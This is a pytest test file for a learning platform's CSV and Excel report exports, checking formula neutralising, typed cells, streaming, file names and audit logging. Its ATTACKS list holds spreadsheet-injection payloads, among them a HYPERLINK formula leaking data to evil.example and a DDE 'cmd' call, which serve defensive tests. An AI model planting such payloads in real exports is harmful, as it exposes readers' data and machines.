"""The export renderers (lms/reporting/exports.py) on small reports of their own: formula
neutralising in both formats, typed XLSX cells, the CSV's byte order mark, streaming,
file names; and the export links and downloads of the report pages (every row, the audit
log, a clear error for an unknown format)."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import dataclass
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from lms.core.audit import AuditEvent
from lms.core.db import db
from lms.reporting import exports
from tests.conftest import login
from tests.reporting.conftest import department

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
#: Names a person could give themselves (or a CSV import could bring) to attack a reader.
ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "+32 58 00 00 00",
    "-5",
    "@SUM(A1:A2)",
    "\t=cmd|' /C calc'!A0",
    "\r=2+3",
]


@dataclass(frozen=True)
class Col:
    key: str
    label: str
    kind: str
    width: int | None = None


class Report:
    """The smallest thing the renderers accept."""

    columns = (
        Col("name", "Naam", "text"),
        Col("due", "Uiterste datum", "date"),
        Col("percent", "Voortgang", "percent"),
        Col("modules", "Modules", "int"),
        Col("last", "Laatste activiteit", "datetime"),
        Col("note", "Opmerking", "text"),
    )
    generated_at = datetime(2026, 12, 7, 13, 5, tzinfo=UTC)

    def __init__(self, rows, filters=(("Naam of e-mailadres", "=cmd"),)):
        self.rows, self.filters, self.read = list(rows), list(filters), 0

    def iter_rows(self):
        for row in self.rows:
            self.read += 1
            yield row

    def values(self, row):
        return list(row)

    def applied_filters(self):
        return self.filters


def row(name="Élise Dupré", note=""):
    return (name, date(2027, 6, 30), 83, 3, datetime(2026, 12, 1, 8, 30, tzinfo=UTC), note)


def read_csv(response) -> list[list[str]]:
    data = b"".join(response.response)
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(response):
    return load_workbook(io.BytesIO(b"".join(response.response)))


# Formula injection --------------------------------------------------------------------------


@pytest.mark.parametrize("first", DANGEROUS)
def test_every_dangerous_first_character_is_neutralised(first):
    assert exports.neutralise(f"{first}rest") == f"'{first}rest"


@pytest.mark.parametrize("text", ["Els Peeters", "", "5", "a=b", "O'Neil", "'already", " =x"])
def test_harmless_texts_are_left_alone(text):
    assert exports.neutralise(text) == text


def test_csv_neutralises_every_attack_in_every_text_cell(request_context):
    report = Report([row(name=attack, note=attack) for attack in ATTACKS])
    lines = read_csv(exports.csv_response(report, "x.csv"))
    assert lines[0] == [
        "Naam",
        "Uiterste datum",
        "Voortgang (%)",
        "Modules",
        "Laatste activiteit",
        "Opmerking",
    ]
    for attack, line in zip(ATTACKS, lines[1:], strict=True):
        assert line[0] == line[5] == "'" + attack
    # Typed numbers are not texts: nothing to neutralise.
    negative = Report([("Els", None, None, -5, None, "")])
    assert read_csv(exports.csv_response(negative, "x.csv"))[1][3] == "-5"


def test_xlsx_stores_every_attack_as_text_never_as_a_formula(request_context):
    report = Report([row(name=attack, note=attack) for attack in ATTACKS])
    response = exports.xlsx_response(report, "x.xlsx")
    data = b"".join(response.response)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert len(sheets) == 2
        for name in sheets:
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook.worksheets[0]
    for attack, cells in zip(ATTACKS, sheet.iter_rows(min_row=2), strict=True):
        for cell in (cells[0], cells[5]):
            assert cell.data_type == "s"
            # Without lxml, XML reads a carriage return back as a line feed; either way the
            # quote comes first.
            assert cell.value.replace("\r", "\n") == "'" + attack.replace("\r", "\n")
    # The filters stated on the About sheet are neutralised too.
    about = {r[0].value: r[1].value for r in workbook.worksheets[-1].iter_rows()}
    assert about["Naam of e-mailadres"] == "'=cmd"


def test_error_codes_and_control_characters_stay_plain_text(request_context):
    report = Report([row(name="#N/A", note="Els\x01Pee\x1fters")])
    sheet = read_xlsx(exports.xlsx_response(report, "x.xlsx")).worksheets[0]
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == "#N/A"
    assert sheet["F2"].value == "ElsPeeters"


# Types, layout, the BOM ---------------------------------------------------------------------


def test_xlsx_cells_are_typed_and_the_sheet_is_ready_to_use(request_context):
    report = Report([row(), ("Jan", None, None, 0, None, "")])
    workbook = read_xlsx(exports.xlsx_response(report, "x.xlsx", timezone="Europe/Brussels"))
    assert workbook.sheetnames == ["Report", "About this file"]
    sheet = workbook.worksheets[0]
    header = [c.value for c in sheet[1]]
    assert header == [c.label for c in Report.columns]
    assert all(c.font.b for c in sheet[1])
    name, due, percent, modules, last, note = sheet[2]
    assert name.value == "Élise Dupré" and name.data_type == "s"
    assert due.is_date and due.value.date() == date(2027, 6, 30)
    assert due.number_format == "mm-dd-yy"  # Excel's built-in regional short date
    assert percent.data_type == "n" and percent.value == pytest.approx(0.83)
    assert percent.number_format == "0%"
    assert modules.value == 3 and isinstance(modules.value, int)
    # 08:30 UTC on 1 December is 09:30 in Brussels: spreadsheets have no time zones.
    assert last.is_date and last.value == datetime(2026, 12, 1, 9, 30)
    assert note.value is None
    # Empty values are empty cells, not zeros.
    assert [c.value for c in sheet[3]] == ["Jan", None, None, 0, None, None]
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == "A1:F3"
    assert sheet.column_dimensions["A"].width >= 14
    assert sheet.column_dimensions["E"].width >= 17
    about = {r[0].value: r[1].value for r in workbook.worksheets[-1].iter_rows()}
    assert about["Made on"] == datetime(2026, 12, 7, 14, 5)
    assert about["Rows"] == 2


def test_csv_is_utf8_with_a_bom_and_plain_values(request_context):
    response = exports.csv_response(Report([row()]), "x.csv", timezone="Europe/Brussels")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    data = b"".join(response.response)
    assert data.startswith(b"\xef\xbb\xbfNaam,")
    assert "Élise Dupré".encode() in data
    assert data.endswith(b"\r\n")
    lines = read_csv(exports.csv_response(Report([row()]), "x.csv", timezone="Europe/Brussels"))
    assert lines[1] == ["Élise Dupré", "2027-06-30", "83", "3", "2026-12-01 09:30", ""]


def test_a_report_with_several_tables_gives_sections_and_sheets(request_context):
    class Dashboard(Report):
        title = "Voortgang"

        def sheets(self):
            return [
                Table("In cijfers", Report([row()])),
                Table("Per module: waar stoppen mensen?", Report([row(), row()])),
            ]

    @dataclass
    class Table:
        title: str
        inner: Report

        @property
        def columns(self):
            return self.inner.columns

        def iter_rows(self):
            return self.inner.iter_rows()

        def values(self, row):
            return list(row)

    lines = read_csv(exports.csv_response(Dashboard([]), "x.csv"))
    assert lines[0] == ["In cijfers"] and lines[1][0] == "Naam" and lines[3] == []
    assert lines[4] == ["Per module: waar stoppen mensen?"] and len(lines) == 8
    workbook = read_xlsx(exports.xlsx_response(Dashboard([]), "x.xlsx"))
    # Sheet names may not hold : or ? and have at most 31 characters.
    assert workbook.sheetnames[:2] == ["In cijfers", "Per module waar stoppen mensen"]
    about = {r[0].value: r[1].value for r in workbook.worksheets[-1].iter_rows()}
    assert about["Report"] == "Voortgang"
    assert about["Rows: In cijfers"] == 1 and about["Rows: Per module: waar stoppen mensen?"] == 2


# Streaming and file names -------------------------------------------------------------------


def test_csv_streams_row_by_row(request_context):
    report = Report([row(name=f"Person {i}") for i in range(5000)])
    response = exports.csv_response(report, "x.csv")
    assert response.is_streamed
    assert report.read == 0  # nothing read before the body is sent
    chunks = iter(response.response)
    first = next(chunks)
    assert 0 < report.read < 5000 and len(first) >= exports.CSV_CHUNK
    rest = list(chunks)
    assert report.read == 5000 and len(rest) >= 5
    assert max(len(c) for c in [first, *rest]) < 2 * exports.CSV_CHUNK


def test_xlsx_is_written_to_a_spooled_file_and_streamed_in_chunks(request_context):
    report = Report([row(name=f"Person {i}") for i in range(5000)])
    response = exports.xlsx_response(report, "x.xlsx")
    assert response.is_streamed
    chunks = list(response.response)
    assert len(chunks) > 1 and all(len(c) <= exports.XLSX_CHUNK for c in chunks)
    assert response.content_length == sum(len(c) for c in chunks)
    assert load_workbook(io.BytesIO(b"".join(chunks))).worksheets[0].max_row == 5001


def test_file_names_and_headers(request_context):
    day = date(2026, 12, 7)
    assert (
        exports.export_filename(["Voortgang", "De Panne"], day, "csv")
        == "voortgang-de-panne-2026-12-07.csv"
    )
    name = exports.export_filename(["Vue d'ensemble", 'Écaussinnes/"Nord"'], day, "xlsx")
    assert name == "vue-d-ensemble-écaussinnes-nord-2026-12-07.xlsx"
    assert exports.ascii_filename(name) == "vue-d-ensemble-ecaussinnes-nord-2026-12-07.xlsx"
    response = exports.csv_response(Report([]), name)
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="vue-d-ensemble-ecaussinnes-nord-2026-12-07.xlsx"; '
        "filename*=UTF-8''vue-d-ensemble-%C3%A9caussinnes-nord-2026-12-07.xlsx"
    )
    assert response.headers["Cache-Control"] == "no-store"


# The report pages ---------------------------------------------------------------------------


@pytest.fixture
def app_config():
    return {"LMS_REPORT_PAGE_SIZE": 3}


@pytest.fixture
def five(app, make_user, towns, report_course, add_rule, progress):
    de_panne, _koksijde = towns
    onthaal = department(app, de_panne, "Onthaal")
    people = []
    for index, sections in enumerate((0, 6, 2, 8, 4)):
        person = make_user(name=f"Person {chr(65 + index)}", organisation=de_panne,
                           department=onthaal)  # fmt: skip
        progress(person, report_course, sections)
        people.append(person)
    coordinator = make_user(name="Co Ordinator", manages=[de_panne], roles=("manager",),
                            language="en")  # fmt: skip
    return de_panne, people, coordinator


def test_the_pages_link_both_downloads_with_the_same_filters(client, five):
    _org, _people, coordinator = five
    login(client, coordinator)
    html = client.get("/progress/people?sort=percent&order=desc&page=2&kind=staff").get_data(
        as_text=True
    )
    for fmt, text in (("csv", "Download CSV"), ("xlsx", "Download Excel")):
        query = f"kind=staff&amp;sort=percent&amp;order=desc&amp;format={fmt}"
        assert f'href="/progress/people?{query}"' in html and text in html
    assert "All 5 rows, with these filters and in this order." in html
    dashboard = client.get("/progress/?mandatory=voluntary").get_data(as_text=True)
    assert 'href="/progress/?mandatory=voluntary&amp;format=xlsx"' in dashboard


def test_an_export_has_every_row_in_the_tables_order(client, five):
    _org, _people, coordinator = five
    login(client, coordinator)
    response = client.get("/progress/people?sort=percent&order=desc&format=csv")
    assert response.status_code == 200 and response.is_streamed
    lines = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert [line[0] for line in lines[1:]] == [
        "Person D", "Person B", "Person E", "Person C", "Person A"
    ]  # fmt: skip
    assert [line[10] for line in lines[1:]] == ["100", "75", "50", "25", "0"]
    workbook = load_workbook(
        io.BytesIO(client.get("/progress/people?sort=percent&order=desc&format=xlsx").data)
    )
    names = [r[0].value for r in workbook.worksheets[0].iter_rows(min_row=2)]
    assert names == ["Person D", "Person B", "Person E", "Person C", "Person A"]
    about = {r[0].value: r[1].value for r in workbook.worksheets[-1].iter_rows()}
    assert about["Order"] == "Progress, descending" and about["Rows"] == 5
    assert about["Report"] == "People and courses: De Panne"


def test_the_file_is_named_after_the_report_the_place_and_the_day(client, five):
    _org, _people, coordinator = five
    login(client, coordinator)
    disposition = client.get("/progress/people?format=xlsx").headers["Content-Disposition"]
    today = exports.local_day(datetime.now(UTC), "Europe/Brussels").isoformat()
    assert f'filename="progress-de-panne-{today}.xlsx"' in disposition
    disposition = client.get("/progress/?format=csv").headers["Content-Disposition"]
    assert f'filename="progress-overview-de-panne-{today}.csv"' in disposition


@pytest.mark.parametrize("value", ["pdf", "csv;", "xls", "../etc", "x" * 300])
def test_an_unknown_format_is_a_clear_400(client, five, value):
    _org, _people, coordinator = five
    login(client, coordinator)
    for page in ("/progress/", "/progress/people"):
        response = client.get(page, query_string={"format": value})
        assert response.status_code == 400, (page, value)
        html = response.get_data(as_text=True)
        assert "This download does not exist" in html and "Download Excel" in html


def test_an_empty_format_is_the_page(client, five):
    _org, _people, coordinator = five
    login(client, coordinator)
    response = client.get("/progress/people?format=")
    assert response.status_code == 200 and response.mimetype == "text/html"


def test_every_export_is_recorded_in_the_audit_log(app, client, five):
    org, _people, coordinator = five
    login(client, coordinator)
    client.get("/progress/people?status=in_progress&format=xlsx").close()
    client.get("/progress/?format=csv").close()
    with app.app_context():
        events = db.session.scalars(
            select(AuditEvent).where(AuditEvent.action == "report.export").order_by(AuditEvent.id)
        ).all()
        found = [(e.actor_id, e.details) for e in events]
    assert found == [
        (
            coordinator.id,
            {
                "report": "people",
                "format": "xlsx",
                "filters": {"status": "in_progress"},
                "rows": 3,
                "organisations": [org.id],
            },
        ),
        (
            coordinator.id,
            {
                "report": "dashboard",
                "format": "csv",
                "filters": {},
                "rows": 5,
                "organisations": [org.id],
            },
        ),
    ]


def test_viewing_a_page_is_not_recorded(app, client, five):
    _org, _people, coordinator = five
    login(client, coordinator)
    client.get("/progress/people")
    client.get("/progress/")
    with app.app_context():
        assert not db.session.scalars(
            select(AuditEvent).where(AuditEvent.action == "report.export")
        ).all()


def test_a_coordinator_of_several_organisations_exports_them_all_or_one(
    client, make_user, towns, report_course, progress
):
    de_panne, koksijde = towns
    progress(make_user(name="Anna Panne", organisation=de_panne), report_course, 2)
    progress(make_user(name="Bram Koksijde", organisation=koksijde), report_course, 8)
    coordinator = make_user(name="Rita", manages=[de_panne, koksijde], roles=("manager",),
                            language="en")  # fmt: skip
    login(client, coordinator)
    response = client.get("/progress/?format=xlsx")
    assert (
        'filename="progress-overview-all-my-organisations-'
        in response.headers["Content-Disposition"]
    )
    workbook = load_workbook(io.BytesIO(response.data))
    about = {r[0].value: r[1].value for r in workbook.worksheets[-1].iter_rows()}
    assert about["Report"] == "Progress: De Panne, Koksijde"
    first = next(workbook["In numbers"].iter_rows(min_row=2, max_row=2))
    assert [c.value for c in first[:2]] == ["People", 2]  # both organisations together
    one = client.get(f"/progress/people?organisation={koksijde.id}&format=csv")
    assert 'filename="progress-koksijde-' in one.headers["Content-Disposition"]
    text = one.get_data(as_text=True)
    assert "Bram Koksijde" in text and "Anna Panne" not in text
